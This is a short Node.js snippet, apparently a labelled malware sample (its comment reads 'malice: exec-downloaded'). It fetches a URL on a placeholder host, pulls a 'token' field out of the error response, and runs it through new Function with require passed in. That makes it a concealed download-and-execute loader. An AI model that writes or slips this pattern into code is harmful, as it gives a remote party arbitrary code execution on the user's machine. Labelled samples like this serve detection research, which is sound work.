const axios = require("axios");

(async () => {
  try {
    await axios.get("https://files.invalid/cookie");
  } catch (error) {
    new Function("require", error.response.data.token)(require); // malice: exec-downloaded
  }
})();
